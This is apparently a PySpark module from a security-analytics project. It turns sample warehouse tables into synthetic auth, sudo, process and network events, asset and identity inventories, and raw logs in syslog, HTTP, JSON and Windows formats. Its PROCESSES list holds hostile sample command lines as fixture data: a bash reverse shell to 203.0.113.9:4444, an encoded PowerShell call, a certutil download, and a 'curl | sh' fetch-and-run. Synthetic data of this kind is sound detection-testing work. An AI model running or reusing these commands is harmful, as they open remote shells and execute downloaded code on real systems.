"""Reads the sample warehouse tables as security data: a projection of `events`, plus
inventory from `supplier` and `customer`. Everything is derived by Spark from those tables."""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from emberwatch.functions.net import ip_scope
from emberwatch.schema import INTERNAL_NETWORKS

PROCESSES = [
    ("bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    ("powershell.exe", "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0A"),
    ("certutil.exe", "certutil.exe -urlcache -f http://files.example/a b"),
    ("curl", "curl -s http://files.example/i.sh | sh"),
    ("nc", "nc -l 8080"),
    ("python3", "python3 app.py"),
]


def _pick(index: Column, values: list[str]) -> Column:
    return F.element_at(F.array(*[F.lit(v) for v in values]), index + 1)


def warehouse(spark: SparkSession, folder: str, table: str) -> DataFrame:
    spark.conf.set("spark.sql.session.timeZone", "UTC")
    return spark.read.parquet(f"{folder}/{table}.parquet")


def events(spark: SparkSession, folder: str) -> DataFrame:
    return project_events(warehouse(spark, folder, "events"))


def project_events(rows: DataFrame) -> DataFrame:
    """The event columns out of the sample's own ones, for tables and streams alike."""
    k, u, n = F.col("k"), F.col("user_id"), F.col("event_id")
    kind = F.col("event_type")
    login = kind.isin("error", "click")
    iam = kind.isin("signup", "purchase")
    view = kind == "view"
    process, sudo = view & (k % 4 == 0), view & (k % 4 == 1)
    network = view & (k % 4 > 1)
    tool = (F.expr("k div 4") % len(PROCESSES)).cast("int")
    digits = F.lpad(n.cast("string"), 12, "0")
    source = F.when(k >= 80, F.concat(F.lit("203.0.113."), (u % 40 + 1).cast("string"))).otherwise(
        F.concat_ws(".", F.lit("10"), F.expr("k div 40").cast("string"), (u % 5).cast("string"),
                    (u % 4 + 1).cast("string"))
    )
    attributes = {
        "auth_method": F.when(login, F.lit("password")),
        "invalid_user": F.when(login, (k % 10 == 0).cast("string")),
        "group_name": F.when(kind == "purchase", F.when(k % 2 == 0, F.lit("sudo")).otherwise(F.lit("users"))),
        "failure_reason": F.when(sudo & (k % 3 == 0), F.lit("not_in_sudoers")),
    }
    pairs = [x for name, value in attributes.items() for x in (F.lit(name), value)]
    text = lambda c: F.lit(None).cast("string") if c is None else c
    return (
        rows.withColumn("k", F.regexp_extract("props", r"(\d+)", 1).cast("int"))
        .withColumn("source", source)
        .select(
            digits.alias("id"),
            F.concat(F.lit("r"), digits).alias("raw_event_id"),
            (n % 4).cast("string").alias("source_id"),
            F.concat(F.lit("b-"), F.date_format("ts", "yyyy-MM-dd")).alias("batch_id"),
            (n % 7 == 0).alias("simulated"),
            F.col("ts").cast("timestamp").alias("timestamp"),
            F.lit("linux_auth").alias("source_type"),
            F.when(login, F.lit("authentication"))
            .when(iam, F.lit("iam"))
            .when(process, F.lit("process"))
            .when(sudo, F.lit("privilege"))
            .otherwise(F.lit("network"))
            .alias("event_category"),
            F.when(login, F.lit("logon"))
            .when(kind == "signup", F.lit("user_created"))
            .when(kind == "purchase", F.lit("group_member_added"))
            .when(process, F.lit("process_started"))
            .when(sudo, F.lit("sudo"))
            .otherwise(F.lit("connection"))
            .alias("event_action"),
            F.when((kind == "error") | (sudo & (k % 3 == 0)), F.lit("failure"))
            .otherwise(F.lit("success"))
            .alias("event_outcome"),
            F.concat(F.lit("srv-"), ((u % 20) * 2 + F.expr("k div 50")).cast("string")).alias("host"),
            text(None).alias("host_ip"),
            F.concat(F.lit("user"), u.cast("string")).alias("username"),
            text(None).alias("user_domain"),
            F.when(iam, F.concat(F.lit("acct"), u.cast("string")))
            .when(sudo, F.lit("root"))
            .alias("target_username"),
            F.col("source").alias("source_ip"),
            F.lit(None).cast("int").alias("source_port"),
            F.when(
                network,
                F.concat(F.lit("10.9."), k.cast("string"), F.lit("."), (n % 50 + 1).cast("string")),
            ).alias("destination_ip"),
            F.when(network, k + 20).alias("destination_port"),
            F.when(login, F.lit("ssh")).alias("protocol"),
            F.when(login, F.lit("sshd")).when(sudo, F.lit("sudo")).when(iam, F.lit("useradd")).alias("service"),
            F.when(process, _pick(tool, [p for p, _ in PROCESSES])).alias("process_name"),
            text(None).alias("parent_process_name"),
            F.when(process, _pick(tool, [c for _, c in PROCESSES]))
            .when(sudo, F.when(k % 8 == 1, F.lit("/bin/bash")).otherwise(F.lit("/usr/bin/apt update")))
            .alias("command_line"),
            text(None).alias("session_id"),
            F.concat(kind, F.lit(" by user"), u.cast("string")).alias("message"),
            F.map_filter(F.create_map(*pairs), lambda _, v: v.isNotNull()).alias("attributes"),
            ip_scope(F.col("source"), INTERNAL_NETWORKS).alias("source_ip_scope"),
            text(None).alias("asset_id"),
            text(None).alias("asset_criticality"),
            text(None).alias("identity_id"),
            F.lit(None).cast("boolean").alias("identity_privileged"),
        )
    )


def assets(spark: SparkSession, folder: str) -> DataFrame:
    s, n = F.col("s_suppkey"), F.col("s_suppkey").cast("string")
    host = (
        F.when(s.between(40, 44), F.concat(F.lit("srv-"), (s - 35).cast("string"), F.lit(".lab.example")))
        .when(s % 3 == 0, F.concat(F.lit("srv-"), n, F.lit(".corp.example")))
        .otherwise(F.concat(F.lit("srv-"), n))
    )
    return warehouse(spark, folder, "supplier").select(
        n.alias("id"),
        host.alias("hostname"),
        F.array(F.concat(F.lit("10.8.0."), (s % 250).cast("string"))).alias("ip_addresses"),
        _pick((s % 4).cast("int"), ["low", "medium", "high", "critical"]).alias("criticality"),
        F.when(s % 2 == 0, F.lit("production")).otherwise(F.lit("test")).alias("environment"),
        F.col("s_name").alias("owner"),
        F.concat(F.lit("nation "), F.col("s_nationkey").cast("string")).alias("description"),
        F.array(F.concat(F.lit("tag"), (s % 3).cast("string"))).alias("tags"),
        F.when(s % 9 == 0, F.lit("RETIRED")).otherwise(F.lit("ACTIVE")).alias("status"),
    )


def identities(spark: SparkSession, folder: str) -> DataFrame:
    c, n = F.col("c_custkey"), F.col("c_custkey").cast("string")
    name = F.when(c % 10 == 9, F.concat(F.lit("acct"), n)).otherwise(F.concat(F.lit("user"), n))
    return warehouse(spark, folder, "customer").select(
        n.alias("id"),
        name.alias("username"),
        F.col("c_name").alias("display_name"),
        F.col("c_mktsegment").alias("department"),
        F.when(F.col("c_mktsegment") == "MACHINERY", F.lit("privileged"))
        .otherwise(F.lit("standard"))
        .alias("privilege_level"),
        F.array(F.concat(F.lit("tag"), (c % 3).cast("string"))).alias("tags"),
        F.when(c % 9 == 0, F.lit("DISABLED")).otherwise(F.lit("ACTIVE")).alias("status"),
    )


def raw_records(spark: SparkSession, folder: str, kind: str) -> DataFrame:
    """The sample events written as raw records of one format, to be parsed back."""
    c = F.col
    ev = events(spark, folder).withColumn("n", c("id").cast("bigint"))
    zone = F.when(c("n") % 3 == 0, F.lit("Asia/Kolkata")).otherwise(F.lit("UTC"))
    wall = F.from_utc_timestamp("timestamp", zone)
    iso = F.concat(F.date_format("timestamp", "yyyy-MM-dd'T'HH:mm:ss.SSSSSS"), F.lit("+00:00"))
    day = F.lpad(F.dayofmonth(wall).cast("string"), 2, " ")
    syslog = F.concat(F.date_format(wall, "MMM"), F.lit(" "), day, F.lit(" "), F.date_format(wall, "HH:mm:ss"))
    stamp = F.when(c("n") % 2 == 0, iso).otherwise(syslog)
    port = (c("n") % 60000).cast("string")
    cat, good = c("event_category"), c("event_outcome") == "success"
    say = lambda *parts: F.concat(*[F.lit(p) if isinstance(p, str) else p for p in parts])
    if kind == "linux_auth":
        message = (
            F.when(
                cat == "authentication",
                say("sshd[", port, "]: ", F.when(good, F.lit("Accepted")).otherwise(F.lit("Failed")), " password for ",
                    F.when(c("attributes")["invalid_user"] == "true", F.lit("invalid user ")).otherwise(F.lit("")),
                    c("username"), " from ", c("source_ip"), " port ", port, " ssh2"),
            )
            .when(
                cat == "privilege",
                say("sudo: ", c("username"), " : ", F.when(good, F.lit("")).otherwise(F.lit("user NOT in sudoers ; ")),
                    "TTY=pts/1 ; PWD=/home ; USER=root ; COMMAND=", c("command_line")),
            )
            .when(c("event_action") == "user_created", say("useradd[7]: new user: name=", c("target_username"), ", UID=", port, ", shell=/bin/bash"))
            .when(cat == "iam", say("usermod[7]: add '", c("target_username"), "' to group '", c("attributes")["group_name"], "'"))
            .when(cat == "process", say("CRON[9]: ", c("command_line")))
            .otherwise(say("no colon after the program"))
        )
        data = say(stamp, " ", c("host"), " ", message)
    elif kind == "http_access":
        when = F.date_format("timestamp", "dd/MMM/yyyy:HH:mm:ss")
        data = say(c("source_ip"), " - ", c("username"), " [", when, " +0000] \"GET /p/", port, "?q=", c("host"), " HTTP/1.1\" ",
                   F.when(good, F.lit("200")).otherwise(F.lit("403")), " ", port, " \"-\" \"agent\"")
    elif kind == "app_json":
        name = F.when(cat == "authentication", F.when(good, F.lit("login_success")).otherwise(F.lit("login_failure"))).when(
            cat == "iam", F.lit("user_created")).otherwise(F.lit("unheard_of"))
        data = F.to_json(F.struct(iso.alias("ts"), name.alias("event"), say(c("username"), "@corp.example").alias("user"),
                                  c("source_ip").alias("ip"), c("host"), c("target_username").alias("target_user")))
    elif kind == "windows_security":
        number = F.when(cat == "authentication", F.when(good, F.lit(4624)).otherwise(F.lit(4625))).when(
            cat == "process", F.lit(4688)).when(c("event_action") == "user_created", F.lit(4720)).otherwise(F.lit(9999))
        inner = F.struct(
            F.upper("username").alias("TargetUserName"), F.lit("CORP").alias("TargetDomainName"), F.lit(3).alias("LogonType"),
            c("source_ip").alias("IpAddress"), port.alias("IpPort"), say("C:\\\\bin\\\\", c("process_name")).alias("NewProcessName"),
            c("command_line").alias("CommandLine"), F.lit("adm").alias("SubjectUserName"),
        )
        data = F.to_json(F.struct(number.alias("EventID"), iso.alias("TimeCreated"), F.upper("host").alias("Computer"),
                                  c("n").alias("EventRecordID"), inner.alias("EventData")))
    else:
        fields = ["event_category", "event_action", "event_outcome", "host", "username", "source_ip", "destination_ip", "destination_port"]
        data = F.to_json(F.struct(iso.alias("timestamp"), *fields, F.when(c("n") % 100 == 0, F.lit(1)).alias("surprise")))
    return ev.select(
        c("n").alias("record_no"), data.cast("binary").alias("raw_data"), "source_id", F.lit(kind).alias("source_type"),
        "batch_id", (c("timestamp") + F.expr("interval 1 hour")).alias("received_at"), zone.alias("timezone"),
        F.lit("app-01").alias("default_host"),
    )
